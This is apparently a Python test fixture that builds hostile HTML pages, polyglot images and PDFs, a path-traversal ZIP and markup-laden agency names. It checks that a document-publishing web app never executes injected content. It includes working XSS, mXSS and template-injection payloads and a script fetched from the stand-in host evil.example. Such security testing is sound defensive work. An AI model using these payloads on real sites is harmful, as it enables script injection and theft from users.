"""A home whose agencies, files, texts and originals are all out to run something in our pages.

Everything goes through the real stages. What any of it would do, if it could, is told in one of
three ways: `window.__owned` is set, a dialog opens, or an address with `owned` in it is asked for.
"""

import io
import struct
import zipfile
import zlib
from dataclasses import dataclass
from datetime import datetime
from itertools import cycle
from pathlib import Path

from model.ids import AgencyId
from tests.corpus import by_reportlab
from tests.corpus.cases import Case
from tests.corpus.web_pages import web_page
from tests.web.homes import Original, fill_with

RUN = "window.__owned=1;fetch('/owned-by-script')"
TAGS = (
    f"<script>{RUN}</script>",
    f'"><img src=/owned-by-image onerror="{RUN}">',
    f"<svg onload=\"{RUN}\"><script>{RUN}</script><a xlink:href='javascript:{RUN}'>x</a></svg>",
    "</title></textarea></style><script src=//evil.example/owned.js></script>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href='javascript:{RUN}'>点我</a><details open ontoggle='{RUN}'>x</details>",
    "{{ 7341*7 }}{% raw %}{{ site.token }}{{ config.__class__ }}${7341*7}<%= 7341*7 %>",
    "<!--><math><mtext></form><mglyph><style></math><img src=/owned-by-mxss onerror=alert(1)>",
)
OVERRIDE = "\u202egnp.exe\u2066"
LONG = "极长的名称" * 400

_ROGUE = f"""
<meta http-equiv="refresh" content="0;url=/owned-by-refresh">
<base href="http://evil.example/owned/">
<link rel="stylesheet" href="/owned-by-link"><link rel="prefetch" href="/owned-by-prefetch">
<style>@import url(/owned-by-import); body {{ background: url(/owned-by-css) }}
@font-face {{ font-family: x; src: url(/owned-by-font) }} p {{ font-family: x }}</style>
<script>{RUN}; alert('owned'); top.__owned = 1; parent.__owned = 1; window.open('/owned-by-popup');
navigator.serviceWorker.register('/owned-worker.js'); localStorage.owned = 1;
document.cookie = 'owned=1'; new WebSocket('ws://127.0.0.1/owned');
top.location = '/owned-by-top';</script>
<body onload="{RUN}">
<form id="f" action="/owned-by-form" method="post"><input autofocus onfocus="{RUN}"></form>
<iframe src="/owned-by-frame"></iframe><object data="/owned-by-object"></object>
<embed src="/owned-by-embed"><video src="/owned-by-video" autoplay></video>
<img src="/owned-by-image" onerror="{RUN}"><a href="javascript:{RUN}" target="_top">点我</a>
<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName="x" dur="1s"/></svg>
<a ping="/owned-by-ping" href="/owned-by-link">x</a><marquee onstart="{RUN}">x</marquee>
"""
_HEADER = "id,name,aliases,level,kind,region,parent,uscc,duty,due,since,until,successor,listings"


@dataclass(frozen=True, kw_only=True)
class Hostile:
    name: str
    data: bytes
    year: int


def originals() -> tuple[Hostile, ...]:
    case = Case(producer="web", form="2021", layout="plain", kind="notes")
    plain = web_page(case)
    texts = "".join(f"<p>{_escaped(tag)}</p>" for tag in TAGS)
    spoken = plain.replace("</h1>", f"</h1><p>{OVERRIDE}{LONG}&#0;&#27;[31m</p>{texts}", 1).replace(
        "<title>", f"<title>{_escaped(TAGS[1])}", 1
    )
    # The cells themselves hold markup, and words that look like it.
    armed = plain.replace(">0</td>", f" onclick='{RUN}'>0<img src=/owned onerror='{RUN}'></td>")
    quoted = plain.replace("规章", f"规章{_escaped(TAGS[0])}")
    pdf = by_reportlab.make(Case(producer="reportlab", form="2021", layout="ruled", kind="sound"))
    return (
        Hostile(
            name="rogue.html", data=plain.replace("</body>", f"{_ROGUE}</body>").encode(), year=2024
        ),
        Hostile(name="'\"><svg onload=alert(1)>.html", data=spoken.encode(), year=2023),
        Hostile(name="javascript:alert(1).html", data=armed.encode(), year=2022),
        Hostile(name=f"a{OVERRIDE}.html", data=quoted.encode(), year=2021),
        Hostile(name="polyglot.pdf", data=pdf + f"\n<script>{RUN}</script>".encode(), year=2020),
        Hostile(name="picture.gif", data=_gif(), year=2019),
        Hostile(name="drawing.svg.html", data=_svg(), year=2018),
        Hostile(name="packed.zip.html", data=_packed(plain), year=2017),
        Hostile(name="picture.png", data=_png(), year=2016),
        Hostile(name="page.xhtml", data=_xhtml(), year=2015),
    )


def fill(folder: Path, files: Path, now: datetime) -> tuple[AgencyId, ...]:
    """Every original once for one agency of each hostile name; the agencies."""
    names = (*TAGS, f"清禾{OVERRIDE}局", LONG[:300])
    rows = [
        f"hostile-{number},{_quoted(name)},{_quoted(name + '又')},county,department,999910,,,"
        "statutory,,,,,,,"
        for number, name in enumerate(names)
    ]
    agencies = tuple(AgencyId(f"hostile-{number}") for number in range(len(names)))
    given = (
        Original(name=one.name, data=one.data, agency=agency, year=one.year)
        for one, agency in zip(originals(), cycle(agencies), strict=False)
    )
    fill_with("\n".join([f"{_HEADER},hosts,note", *rows, ""]), given, folder, files, now)
    return agencies


def _escaped(words: str) -> str:
    """As text of a page: what a reader of it sees are the very characters."""
    return words.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _quoted(words: str) -> str:
    return '"' + words.replace('"', '""') + '"'


def _gif() -> bytes:
    """A picture that is a script as well: `GIF89a/*…*/=1;…`."""
    return b"GIF89a/*\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00;*/=1;" + RUN.encode()


def _svg() -> bytes:
    return (
        '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
        f'onload="{RUN}"><script>{RUN}</script><foreignObject><body '
        f'xmlns="http://www.w3.org/1999/xhtml" onload="{RUN}"/></foreignObject></svg>'
    ).encode()


def _xhtml() -> bytes:
    return (
        '<?xml version="1.0"?><?xml-stylesheet href="/owned-by-style" type="text/xsl"?>'
        f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>{RUN}</script></head>'
        f'<body onload="{RUN}">政府信息公开工作年度报告</body></html>'
    ).encode()


def _packed(page: str) -> bytes:
    """A web page behind which a ZIP file begins."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as package:
        package.writestr("../../owned.html", f"<script>{RUN}</script>")
    return f"<script>{RUN}</script>{page}".encode() + packed.getvalue()


def _png() -> bytes:
    """A picture of one point, with a page in a comment and another behind its end."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    page = f"<html><script>{RUN}</script>".encode()
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
            chunk(b"tEXt", b"Comment\x00" + page),
            chunk(b"IDAT", zlib.compress(b"\x00\x00")),
            chunk(b"IEND", b""),
            page,
        )
    )
